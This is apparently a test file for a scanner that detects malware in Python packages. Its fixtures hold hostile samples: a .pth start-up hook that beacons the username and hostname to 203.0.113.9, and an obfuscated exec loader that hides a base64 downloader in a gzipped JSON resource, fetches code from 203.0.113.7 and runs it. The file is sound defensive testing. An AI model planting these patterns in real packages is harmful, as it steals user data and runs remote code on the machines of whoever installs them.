def test_a_helper_the_package_only_hands_on_stays_run_time(init: str) -> None:
    env = f"import os\ndef prepare():\n    os.system({COMMAND})\n"
    files: dict[str, bytes | str] = {"demo/__init__.py": init, "demo/env.py": env}
    result = analyze_bytes(make_wheel(files), "demo-1.0-py3-none-any.whl").result
    assert result.verdict is not Verdict.MALICIOUS, [(f.rule, f.severity, f.message) for f in result.findings]
    assert {f.stage for f in result.findings} <= {Stage.RUNTIME}


def test_a_module_a_start_up_pth_file_imports_runs_at_start_up() -> None:
    """``import _hook; _hook.go()`` in a ``.pth`` file: the interpreter runs that line, and so the
    module it imports, at every start-up; the module's beacon weighs as start-up code."""
    hook = (
        "import getpass, socket, urllib.request\n"
        "def go():\n"
        "    info = {'u': getpass.getuser(), 'h': socket.gethostname()}\n"
        "    urllib.request.urlopen('http://203.0.113.9/b?' + str(info))\n"
    )
    files: dict[str, bytes | str] = {
        "demo_hook.pth": "import _demo_hook; _demo_hook.go()\n",
        "_demo_hook.py": hook,
        "demo/__init__.py": "",
    }
    result = analyze_bytes(make_wheel(files), "demo-1.0-py3-none-any.whl").result
    assert result.verdict is Verdict.MALICIOUS, [(f.rule, f.severity, f.message) for f in result.findings]
    assert any(f.stage is Stage.STARTUP and (f.path or "").endswith("_demo_hook.py") for f in result.findings)
    files["demo_hook.pth"] = "demo_extra\n"  # a path entry imports nothing
    result = analyze_bytes(make_wheel(files), "demo-1.0-py3-none-any.whl").result
    assert result.verdict is not Verdict.MALICIOUS


def test_a_downloader_kept_in_a_gzipped_dictionary_and_run_by_the_loader_is_malicious() -> None:
    """The spellcheckerpy shape: the program sits base64-encoded under a key of a gzipped JSON
    resource; the class that loads the dictionary pops the key and ``exec``s it. Neither file
    alone says much; the decoded program does."""
    import base64
    import gzip
    import json

    program = (
        "import os, subprocess, tempfile, urllib.request\n"
        "p = os.path.join(tempfile.gettempdir(), 'u.py')\n"
        "open(p, 'wb').write(urllib.request.urlopen('http://203.0.113.7/s').read())\n"
        "subprocess.Popen(['python', p], start_new_session=True)\n"
    )
    words = {f"hitz{i}": i for i in range(50)}
    loader = (
        "import base64, gzip, json, os\n"
        "RES = os.path.join(os.path.dirname(__file__), 'resources')\n"
        "def load(lang):\n"
        "    with gzip.open(os.path.join(RES, lang + '.json.gz'), 'rt') as f:\n"
        "        return json.load(f)\n"
        "def _t(d, k=bytes([115, 112, 101, 108, 108]).decode()):\n"
        "    v = d.pop(k, None)\n"
        "    if v:\n"
        "        b = __builtins__\n"
        "        run = b['exec'] if isinstance(b, dict) else getattr(b, 'exec')\n"
        "        run(base64.b64decode(v))\n"
        "    return d\n"
        "class Checker:\n"
        "    def __init__(self):\n"
        "        self.words = _t(load('eu'))\n"
    )

    def sdist(payload: str) -> bytes:
        dictionary = {**words, "spell": base64.b64encode(payload.encode()).decode()}
        files: dict[str, bytes | str] = {
            "demo/__init__.py": "from .utils import Checker\n",
            "demo/utils.py": loader,
            "demo/resources/eu.json.gz": gzip.compress(json.dumps(dictionary).encode()),
        }
        return make_sdist(files)

    result = analyze_bytes(sdist(program), "demo-1.0.tar.gz").result
    assert result.verdict is Verdict.MALICIOUS, [(f.rule, f.severity, f.message) for f in result.findings]
    assert any(f.rule == "PV-PAY-HIDDEN-CODE" for f in result.findings)
    harmless = analyze_bytes(sdist("import math\nprint(math.pi)\n"), "demo-1.0.tar.gz").result
    assert harmless.verdict is not Verdict.MALICIOUS
    assert all(f.rule != "PV-PAY-HIDDEN-CODE" for f in harmless.findings)
